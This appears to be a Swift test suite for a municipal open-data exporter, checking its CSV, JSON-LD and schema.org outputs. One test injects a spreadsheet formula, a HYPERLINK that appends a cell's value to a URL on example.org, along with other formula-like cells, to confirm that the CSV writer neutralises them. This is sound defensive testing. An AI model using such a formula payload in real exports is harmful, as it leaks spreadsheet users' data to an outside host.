import Foundation
import JSON
import Model
@testable import OpenData
import TestSupport
import XCTest

final class OpenDataTests: XCTestCase {
    var fixture: DataFixture!

    override func setUpWithError() throws { fixture = try DataFixture() }
    override func tearDown() { fixture.remove() }

    func testFilesAndTheirOrder() {
        XCTAssertEqual(fixture.export().files().map(\.path), [
            "catalogue.jsonld", "catalogue-molins-de-rei.jsonld", "catalogue-sant-feliu-de-llobregat.jsonld",
            "offices.jsonld", "offices.csv", "offices.csv-metadata.json", "services.csv", "services.csv-metadata.json",
            "indicator-values.csv", "indicator-values.csv-metadata.json", "budgets.csv", "budgets.csv-metadata.json",
        ])
    }

    /// The fixture's Sant Feliu budget for 2026: 52,000 + 46,000 € of posts at 1 FTE, 9,000 €
    /// of premises, no communication actions with a budget, 1,500 € of licences; covered with a margin by
    /// three sources; 110 + 125 people attended in the 2026 reports, two of the three quarters
    /// the office is open in (it opened on 2026-04-13): 108,500 × 2/3 / 235.
    func testBudgetsCSVBytes() {
        XCTAssertEqual(fixture.file("budgets.csv"),
                       "municipality,year,posts,premises,communication,other,total,funding_council,funding_agency,"
                       + "funding_provincial_council,funding_regional_programme,funding_other,funding_total,covered,"
                       + "people_attended,cost_per_person_attended,quarters_reported,quarters_open\r\n"
                       + "sant-feliu-de-llobregat,2026,98000,9000,0,1500,108500,60000,0,30000,25000,0,115000,true,235,307.8,2,3\r\n")
    }

    /// Without a report of the year (the same budget for 2027), the people attended and
    /// the cost per person attended are left empty, and no quarter is reported.
    func testBudgetsCSVWithoutReports() throws {
        let folder = fixture.root.appendingPathComponent("seeds/sant-feliu-de-llobregat/budgets")
        let text = try String(contentsOf: folder.appendingPathComponent("2026.yaml"), encoding: .utf8)
        try FileManager.default.removeItem(at: folder.appendingPathComponent("2026.yaml"))
        try fixture.write("seeds/sant-feliu-de-llobregat/budgets/2027.yaml", text.replacingOccurrences(of: "year: 2026", with: "year: 2027"))
        XCTAssertEqual(fixture.file("budgets.csv").components(separatedBy: "\r\n")[1],
                       "sant-feliu-de-llobregat,2027,98000,9000,0,1500,108500,60000,0,30000,25000,0,115000,true,,,0,4")
    }

    func testServicesCSVBytes() {
        XCTAssertEqual(fixture.file("services.csv"),
                       "municipality,ine_code,service,name_ca,name_es,adoption,overridden_fields,local\r\n"
                       + "molins-de-rei,08123,business-transfer,Traspàs d'empreses,Traspaso de empresas,not-adopted,,false\r\n"
                       + "molins-de-rei,08123,company-creation,Creació d'empreses,Creación de empresas,core,,false\r\n"
                       + "molins-de-rei,08123,grants-information,Informació sobre ajuts,Información sobre ayudas,recommended,,false\r\n"
                       + "sant-feliu-de-llobregat,08211,business-transfer,Traspàs d'empreses,Traspaso de empresas,adopted,,false\r\n"
                       + "sant-feliu-de-llobregat,08211,company-creation,Creació d'empreses,Creación de empresas,core,commitments[first-appointment].target;channels,false\r\n"
                       + "sant-feliu-de-llobregat,08211,grants-information,Informació sobre ajuts,Información sobre ayudas,omitted,,false\r\n"
                       + "sant-feliu-de-llobregat,08211,local-retail-support,Suport al comerç local,Apoyo al comercio local,local,,true\r\n")
    }

    func testIndicatorValuesCSVBytes() throws {
        try fixture.write("model/indicators/people-attended.yaml", """
            id: people-attended
            name: {ca: Persones ateses, es: Personas atendidas}
            definition: {ca: Persones ateses en el període., es: Personas atendidas en el periodo.}
            unit: count
            type: activity
            frequency: monthly
            target: {value: 40.5, direction: at-least, period: month}
            source: {ca: Registre de l'oficina, es: Registro de la oficina}
            """)
        // A monthly count's target is compared on the quarter: 40.5 × 3 = 121.5; on the
        // quarter the office opened during, on the days it was open (79 of 91: 105).
        XCTAssertEqual(fixture.file("indicator-values.csv"),
                       "municipality,municipality_name,period,indicator,value,unit,target,target_period,target_direction,quarter_target,target_source,status\r\n"
                       + "sant-feliu-de-llobregat,Sant Feliu de Llobregat,2026-Q2,people-attended,110,count,40.5,month,at-least,105,model,met\r\n"
                       + "sant-feliu-de-llobregat,Sant Feliu de Llobregat,2026-Q3,people-attended,125,count,40.5,month,at-least,121.5,model,met\r\n")
    }

    func testCSVQuotesWhatItMust() {
        let table = CSVTable(header: ["a", "b"], rows: [["x,y", "say \"hi\""], ["line\nbreak", "ç"], ["cr\r\nlf", ""]])
        XCTAssertEqual(table.text, "a,b\r\n\"x,y\",\"say \"\"hi\"\"\"\r\n\"line\nbreak\",ç\r\n\"cr\r\nlf\",\r\n")
        XCTAssertEqual(CSVTable.number(2.8), "2.8")
        XCTAssertEqual(CSVTable.number(142), "142")
    }

    /// A local service named like a spreadsheet formula, read back by Python's csv module:
    /// every formula-like cell is text behind a single quote; numbers stay numbers.
    func testCSVNeutralisesFormulas() throws {
        let path = "seeds/sant-feliu-de-llobregat/services/local-retail-support.md"
        let text = try String(contentsOf: fixture.root.appendingPathComponent(path), encoding: .utf8)
        try fixture.write(path, text.replacingOccurrences(
            of: "name: {ca: Suport al comerç local, es: Apoyo al comercio local}",
            with: #"name: {ca: '=HYPERLINK("https://example.org/?d="&A2,"Suport")', es: Apoyo}"#))
        let csv = fixture.root.appendingPathComponent("services.csv")
        try Data(fixture.file("services.csv").utf8).write(to: csv)
        let rows = try readCSVWithPython(csv)
        XCTAssertEqual(rows.last, ["sant-feliu-de-llobregat", "08211", "local-retail-support",
                                   #"'=HYPERLINK("https://example.org/?d="&A2,"Suport")"#, "Apoyo", "local", "", "true"])
        // A telephone number is data as it is (session 38's trial); one with anything else is not.
        let table = CSVTable(header: ["cell"], rows: [["+1+cmd"], ["-2+3"], ["@SUM(A1)"], ["\tx"], ["\rx"], ["-2.5"], ["-12"], ["a=b"],
                                                       ["+34 935 000 202"], ["+34 (93) 500-02-02"], ["+"], ["+34 93 A1"]])
        let tableFile = fixture.root.appendingPathComponent("table.csv")
        try Data(table.text.utf8).write(to: tableFile)
        XCTAssertEqual(try readCSVWithPython(tableFile).map { $0[0] },
                       ["cell", "'+1+cmd", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "-2.5", "-12", "a=b",
                        "+34 935 000 202", "+34 (93) 500-02-02", "'+", "'+34 93 A1"])
    }

    /// The reviewed CPSV-AP 3.2.0 export of Sant Feliu de Llobregat in the fixture network,
    /// with the base address https://oae.example.org/ (Tests/Fixtures/opendata-golden; it
    /// conforms to the official SHACL shapes: `pyshacl -s cpsv-ap-SHACL.ttl -df json-ld`).
    func testCPSVCatalogueOfTheFixture() throws {
        try assertGolden(fixture.file("catalogue-sant-feliu-de-llobregat.jsonld"),
                         packageRoot().appendingPathComponent("Tests/Fixtures/opendata-golden/catalogue-sant-feliu-de-llobregat.jsonld"))
    }

    /// Every node the catalogue refers to is described in the same file with a type, so
    /// that the shapes' class constraints hold without inference; the context is inline.
    func testEveryReferencedNodeIsTypedInTheSameGraph() throws {
        for file in fixture.export().files() where file.path.hasSuffix(".jsonld") && file.path.hasPrefix("catalogue") {
            let json = try XCTUnwrap(try JSONSerialization.jsonObject(with: file.data) as? [String: Any])
            XCTAssertTrue(json["@context"] is [String: Any], "\(file.path): inline context")
            let graph = try XCTUnwrap(json["@graph"] as? [[String: Any]])
            var typed: Set<String> = []
            for node in graph {
                let id = try XCTUnwrap(node["@id"] as? String)
                XCTAssertFalse(typed.contains(id), "\(file.path): \(id) described twice")
                XCTAssertNotNil(node["@type"], "\(file.path): \(id) has no type")
                typed.insert(id)
            }
            func references(_ value: Any) -> [String] {
                if let object = value as? [String: Any] {
                    if object.count == 1, let id = object["@id"] as? String { return [id] }
                    return []
                }
                if let array = value as? [Any] { return array.flatMap(references) }
                return []
            }
            for node in graph {
                for (key, value) in node where !key.hasPrefix("@") {
                    for id in references(value) { XCTAssertTrue(typed.contains(id), "\(file.path): \(key) → \(id) is not described") }
                }
            }
            let services = graph.filter { $0["@type"] as? String == "cpsv:PublicService" }
            XCTAssertFalse(services.isEmpty)
            for service in services {
                for property in ["dct:identifier", "dct:title", "dct:description", "cv:hasCompetentAuthority"] {
                    XCTAssertNotNil(service[property], "\(file.path): a service lacks \(property)")
                }
            }
        }
    }

    func testNetworkCatalogueHoldsEveryMunicipality() throws {
        let data = try XCTUnwrap(fixture.export().files().first { $0.path == "catalogue.jsonld" }?.data)
        let graph = try XCTUnwrap((try JSONSerialization.jsonObject(with: data) as? [String: Any])?["@graph"] as? [[String: Any]])
        let datasets = graph.filter { $0["@type"] as? String == "dcat:Dataset" }.compactMap { $0["@id"] as? String }
        // Named as the DCAT-AP catalogue names them (session 44's trial: by the file's
        // address, a harvester found two datasets of one title).
        XCTAssertEqual(datasets, ["https://oae.example.org/id/dataset/service-catalogue",
                                  "https://oae.example.org/id/dataset/service-catalogue-molins-de-rei",
                                  "https://oae.example.org/id/dataset/service-catalogue-sant-feliu-de-llobregat"])
        let export = fixture.export()
        let dcat = export.catalog(sizes: Dictionary(export.files().map { ($0.path, $0.data.count) }) { a, _ in a }, issued: Day("2025-10-01"))
        let described = try XCTUnwrap((try JSONSerialization.jsonObject(with: Data(dcat)) as? [String: Any])?["@graph"] as? [[String: Any]])
            .filter { $0["@type"] as? String == "dcat:Dataset" }.compactMap { $0["@id"] as? String }
        XCTAssertTrue(Set(datasets).isSubset(of: Set(described)), "\(described)")
        XCTAssertEqual(graph.filter { $0["@type"] as? String == "cpsv:PublicService" }.count, 2 + 3)
    }

    /// The datasets are made once per export and filtered by the files present: a dataset
    /// whose files are all missing is left out, the others keep only theirs.
    func testDatasetsMadeOnceAreFilteredByTheFilesPresent() throws {
        let export = fixture.export()
        let all = export.datasets(present: nil)
        XCTAssertEqual(all.filter { $0.table != nil }.map(\.id), ["offices", "services", "indicator-values", "budgets"])
        XCTAssertEqual(export.tables.map(\.name), ["offices", "services", "indicator-values", "budgets"])
        XCTAssertEqual(DataTables(network: export.input.network, resolved: export.input.resolved).names, export.tables.map(\.name))
        XCTAssertEqual(OpenDataExport.makingOrder(export.fileList()).prefix(2).map(\.path), ["offices.csv", "catalogue-molins-de-rei.jsonld"])
        let some = export.datasets(present: ["catalogue.jsonld", "offices.csv", "open-data.ods"])
        XCTAssertEqual(some.map { "\($0.id): \($0.files.map(\.path).joined(separator: " "))" }, [
            "service-catalogue: catalogue.jsonld", "offices: offices.csv open-data.ods", "services: open-data.ods",
            "indicator-values: open-data.ods", "budgets: open-data.ods",
        ])
        XCTAssertEqual(export.datasets(present: nil), all)
        final class Count: @unchecked Sendable { var n = 0 }
        let made = Count()
        let once = MadeOnce<Int>()
        DispatchQueue.concurrentPerform(iterations: 8) { _ in _ = once.value { made.n += 1; return made.n } }
        XCTAssertEqual(made.n, 1)
    }

    /// The network's catalogue streamed as the municipalities' files are made (on a thread
    /// of its own, as `oae build` writes it) has the bytes it has when made whole.
    func testTheNetworksCatalogueStreamedAsThePartsComeHasTheBytesOfTheWholeFile() throws {
        let whole = try XCTUnwrap(fixture.export().files().first { $0.path == "catalogue.jsonld" }?.data)
        let list = fixture.export().fileList()
        let gathering = try XCTUnwrap(list.first { $0.stream != nil })
        XCTAssertEqual(gathering.path, "catalogue.jsonld")
        final class Bytes: @unchecked Sendable { var value: [UInt8] = [] }
        let streamed = Bytes()
        let done = DispatchSemaphore(value: 0)
        Thread { gathering.stream! { streamed.value += $0 }; done.signal() }.start()
        // The municipalities' files, made after the stream has started waiting for them.
        let others = list.filter { $0.stream == nil }
        XCTAssertGreaterThan(others.filter { $0.path.hasPrefix("catalogue-") }.count, 1)
        _ = others.reversed().map { $0.make() }
        XCTAssertEqual(done.wait(timeout: .now() + 30), .success)
        XCTAssertEqual(Data(streamed.value), whole)
        // A part never made by its file is made by the stream once the others are made.
        let again = fixture.export().fileList()
        let stream = try XCTUnwrap(again.first { $0.stream != nil })
        let rest = Bytes()
        let finished = DispatchSemaphore(value: 0)
        Thread { stream.stream! { rest.value += $0 }; finished.signal() }.start()
        _ = again.filter { $0.stream == nil && $0.path != "catalogue-molins-de-rei.jsonld" }.map { $0.make() }
        again.forEach { $0.othersMade?() }
        XCTAssertEqual(finished.wait(timeout: .now() + 30), .success)
        XCTAssertEqual(Data(rest.value), whole)
        // Nothing is streamed for the preview, which keeps no parts.
        XCTAssertNil(fixture.export().fileList(keepingParts: false).first { $0.stream != nil })
    }

    /// The network's catalogue is written from the pieces each municipality's file wrote
    /// (`CatalogueParts`): the same bytes as the whole graph written at once, whether the
    /// municipalities' files were made first or not, and each of their files too.
    func testCataloguesWrittenInPiecesHaveTheBytesOfTheWholeGraph() throws {
        let export = fixture.export()
        let whole = { (graph: LinkedGraph) -> [UInt8] in
            CPSVCatalogue.document(graph).linkedDataBytes()
        }
        let lang = export.vocabulary.defaultLanguage
        let landing = export.vocabulary.baseURL + "\(lang)/comparison.html"
        let network = whole(export.catalogue.network(landingPage: landing))
        let list = export.fileList()
        XCTAssertEqual(list.filter(\.gathers).map(\.path), ["catalogue.jsonld"])
        XCTAssertEqual(OpenDataExport.makingOrder(list).last?.path, "catalogue.jsonld")
        // Alone first (no piece kept), then after the municipalities' files (every piece kept).
        XCTAssertEqual([UInt8](list[0].make()), network)
        for file in list.dropFirst() where file.path.hasPrefix("catalogue-") {
            let slug = String(file.path.dropFirst("catalogue-".count).dropLast(".jsonld".count))
            let r = try XCTUnwrap(export.input.resolved.first { $0.slug == slug })
            XCTAssertEqual([UInt8](file.make()),
                           whole(export.catalogue.municipality(r, landingPage: export.vocabulary.baseURL + "\(lang)/offices/\(slug).html")))
        }
        XCTAssertEqual([UInt8](list[0].make()), network)
        // The preview keeps no part: same bytes, each file made alone.
        let alone = export.fileList(keepingParts: false)
        for file in alone.dropFirst() where file.path.hasPrefix("catalogue-") { _ = file.make() }
        XCTAssertEqual([UInt8](alone[0].make()), network)
        XCTAssertEqual([UInt8](CPSVCatalogue.document(CPSVCatalogue.Pieces())), whole(LinkedGraph()))
    }

    /// A node that another municipality's graph has as its own (an office whose web page is
    /// another office's page on the site, or one of its identifiers) is written once in
    /// the network's catalogue, where it first appears, as `LinkedGraph.merge` writes it:
    /// the later municipality's own node is left out (Molins de Rei's web page is one of
    /// Sant Feliu's identifiers), or the later page is (Sant Feliu's web page is Molins de
    /// Rei's office page).
    func testANodeThatIsAnotherMunicipalitysOwnIsWrittenOnce() throws {
        let location = "https://oae.example.org/id/sant-feliu-de-llobregat/location"
        let page = "https://oae.example.org/ca/offices/molins-de-rei.html"
        for (slug, web) in [("molins-de-rei", location), ("sant-feliu-de-llobregat", page)] {
            let path = "seeds/\(slug)/office.yaml"
            let text = try String(contentsOf: fixture.root.appendingPathComponent(path), encoding: .utf8)
            try fixture.write(path, text + "channels:\n  web: \(web)\n")
        }
        let export = fixture.export()
        let owners = OwnIdentifiers(baseURL: "https://oae.example.org/", language: "ca", slugs: ["molins-de-rei", "sant-feliu-de-llobregat"])
        XCTAssertEqual([location, page, "https://oae.example.org/id/dataset/service-catalogue-molins-de-rei",
                        "https://oae.example.org/id/agency", "https://oae.example.org/id/concept/channel/web",
                        "https://oae.example.org/id/dataset/service-catalogue", "https://oae.example.org/id/sant-feliu/location",
                        "https://oae.example.org/data/catalogue-molins-de-rei.jsonld",
                        // The pages of a municipality's own services and procedures (`foaf:page`).
                        "https://oae.example.org/ca/offices/sant-feliu-de-llobregat/services/local-retail-support.html",
                        "https://oae.example.org/ca/offices/sant-feliu/services/x.html", "https://oae.example.org/ca/offices/.html",
                        "https://oae.example.org/ca/model/services/company-creation.html"].map(owners.owner),
                       [1, 0, 0, nil, nil, nil, nil, nil, 1, nil, nil, nil])
        let whole = CPSVCatalogue.document(export.catalogue.network(landingPage: "https://oae.example.org/ca/comparison.html"))
            .linkedDataBytes()
        let list = export.fileList()
        XCTAssertEqual([UInt8](list[0].make()), whole)
        for file in list.dropFirst() where file.path.hasPrefix("catalogue-") { _ = file.make() }
        XCTAssertEqual([UInt8](list[0].make()), whole)
        let graph = try XCTUnwrap((try JSONSerialization.jsonObject(with: Data(whole)) as? [String: Any])?["@graph"] as? [[String: Any]])
        let ids = graph.compactMap { $0["@id"] as? String }
        XCTAssertEqual(ids.filter { $0 == location || $0 == page }, [page, location])
        XCTAssertEqual(Set(ids).count, ids.count)
        // Molins de Rei's web page comes first, as a document, in place of Sant Feliu's location.
        XCTAssertEqual(graph.first { $0["@id"] as? String == location }?["@type"] as? String, "foaf:Document")
    }

    /// A node that is the model's as it stands (an unadapted field's outputs, channels, cost;
    /// a model procedure neither replaced nor overridden) is named under the model, and the
    /// network's catalogue describes it once; what a municipality adapted, and its own
    /// services, are named under the municipality. Each municipality's file still holds
    /// every node it refers to (`testEveryReferencedNodeIsTypedInTheSameGraph`).
    func testTheModelsOwnNodesAreNamedUnderTheModelAndDescribedOnceInTheNetwork() throws {
        let files = Dictionary(fixture.export().files().map { ($0.path, $0.data) }, uniquingKeysWith: { a, _ in a })
        func graph(_ path: String) throws -> [[String: Any]] {
            let data = try XCTUnwrap(files[path])
            return try XCTUnwrap((try JSONSerialization.jsonObject(with: data) as? [String: Any])?["@graph"] as? [[String: Any]])
        }
        let id = "https://oae.example.org/id/"
        let model = id + "model/service/company-creation/"
        func ids(_ graph: [[String: Any]], under prefix: String) -> [String] {
            graph.compactMap { $0["@id"] as? String }.filter { $0.hasPrefix(prefix) }
        }
        // Molins de Rei adapts nothing.
        let molins = try graph("catalogue-molins-de-rei.jsonld")
        XCTAssertEqual(ids(molins, under: model), [model + "channel/in-person", model + "channel/email", model + "cost",
                                                   model + "output/1"])
        XCTAssertEqual(ids(molins, under: id + "model/procedure/"), [id + "model/procedure/welcome-and-triage"])
        XCTAssertEqual(ids(molins, under: id + "molins-de-rei/service/company-creation/"),
                       [id + "molins-de-rei/service/company-creation/competent-authority"])
        XCTAssertEqual(molins.first { $0["@id"] as? String == model + "output/1" }?["dct:identifier"] as? String,
                       "model/company-creation/output/1")
        XCTAssertEqual(molins.first { $0["@id"] as? String == id + "model/procedure/welcome-and-triage" }?["dct:identifier"] as? String,
                       "model/welcome-and-triage")
        // Sant Feliu overrides company-creation's channels and commitments (its channels are
        // its own, its cost and output the model's), replaces the procedure with a variant,
        // and has a service of its own.
        let santFeliu = try graph("catalogue-sant-feliu-de-llobregat.jsonld")
        let own = id + "sant-feliu-de-llobregat/"
        XCTAssertEqual(ids(santFeliu, under: model), [model + "cost", model + "output/1"])
        XCTAssertEqual(ids(santFeliu, under: own + "service/company-creation/"),
                       ["competent-authority", "channel/in-person", "channel/phone"].map { own + "service/company-creation/" + $0 })
        XCTAssertEqual(santFeliu.first { $0["@id"] as? String == own + "service/company-creation/channel/phone" }?["dct:identifier"] as? String,
                       "sant-feliu-de-llobregat/company-creation/channel/phone")
        XCTAssertEqual(ids(santFeliu, under: id + "model/procedure/"), [])
        XCTAssertEqual(ids(santFeliu, under: own + "procedure/"), [own + "procedure/welcome-and-triage"])
        XCTAssertEqual(ids(santFeliu, under: id + "model/service/local-retail-support/"), [])
        XCTAssertFalse(ids(santFeliu, under: own + "service/local-retail-support/").isEmpty)
        // The network's catalogue: every node once, the model's among them.
        let network = try graph("catalogue.jsonld").compactMap { $0["@id"] as? String }
        XCTAssertEqual(Set(network).count, network.count)
        XCTAssertEqual(network.filter { $0.hasPrefix(model) }, [model + "channel/in-person", model + "channel/email", model + "cost",
                                                                model + "output/1"])
        XCTAssertEqual(Set(network), Set(molins.compactMap { $0["@id"] as? String } + santFeliu.compactMap { $0["@id"] as? String }
            + ["https://oae.example.org/id/dataset/service-catalogue", "https://oae.example.org/ca/comparison.html"]))
    }

    /// An office as schema.org describes it; its hours hold from its opening day
    /// (`validFrom`: an office still to open was published as keeping them, session 38's trial).
    func testSchemaOrgOffice() throws {
        try fixture.write("seeds/sant-feliu-de-llobregat/office.yaml", """
            id: sant-feliu-de-llobregat
            municipality:
              name: Sant Feliu de Llobregat
              ine_code: "08211"
            name: {ca: OAE de Sant Feliu de Llobregat, es: OAE de Sant Feliu de Llobregat}
            address: {street: "Carrer de Pi i Margall, 30", postal_code: "08980", locality: Sant Feliu de Llobregat}
            coordinates: {lat: 41.3826, lon: 2.0441}
            channels: {phone: "+34 936 000 101", email: oae@sant-feliu.example.cat, web: https://sant-feliu.example.cat/oae}
            opening_hours:
              - {days: [mo, tu, we, th, fr], opens: "09:00", closes: "14:00"}
            status: pilot
            opening_date: 2026-04-13
            agreements: [adhesion-sant-feliu]
            """)
        let office = try XCTUnwrap(fixture.export().office("sant-feliu-de-llobregat", language: "es"))
        XCTAssertEqual(office.serialized(pretty: false), #"{"@context":"https://schema.org","@type":"GovernmentOffice","@id":"https://oae.example.org/id/sant-feliu-de-llobregat/office","name":"OAE de Sant Feliu de Llobregat","url":"https://sant-feliu.example.cat/oae","telephone":"+34 936 000 101","email":"oae@sant-feliu.example.cat","address":{"@type":"PostalAddress","streetAddress":"Carrer de Pi i Margall, 30","postalCode":"08980","addressLocality":"Sant Feliu de Llobregat","addressCountry":"ES"},"geo":{"@type":"GeoCoordinates","latitude":41.3826,"longitude":2.0441},"openingHoursSpecification":[{"@type":"OpeningHoursSpecification","dayOfWeek":["https://schema.org/Monday","https://schema.org/Tuesday","https://schema.org/Wednesday","https://schema.org/Thursday","https://schema.org/Friday"],"opens":"09:00","closes":"14:00","validFrom":"2026-04-13"}],"areaServed":{"@type":"City","name":"Sant Feliu de Llobregat"},"identifier":{"@type":"PropertyValue","propertyID":"INE","value":"08211"}}"#)
    }

    func testSchemaOrgServices() throws {
        let export = fixture.export()
        let model = try XCTUnwrap(export.service(nil, "company-creation", language: "es"))
        XCTAssertEqual(model["@type"], .string("GovernmentService"))
        XCTAssertEqual(model["name"], .string("Creación de empresas"))
        XCTAssertEqual(model["provider"].map { if case let .array(a) = $0 { return a.count } else { return 0 } }, 2)
        let local = try XCTUnwrap(export.service("sant-feliu-de-llobregat", "local-retail-support", language: "ca"))
        XCTAssertEqual(local["areaServed"], .array([.object([("@type", .string("City")), ("name", .string("Sant Feliu de Llobregat"))])]))
        XCTAssertNil(export.service("molins-de-rei", "local-retail-support", language: "ca"), "not offered there")
    }

    func testSameTreeSameBytes() {
        let a = fixture.export().files()
        let b = fixture.export().files()
        XCTAssertEqual(a.map(\.path), b.map(\.path))
        XCTAssertEqual(a.map(\.data), b.map(\.data))
    }
}
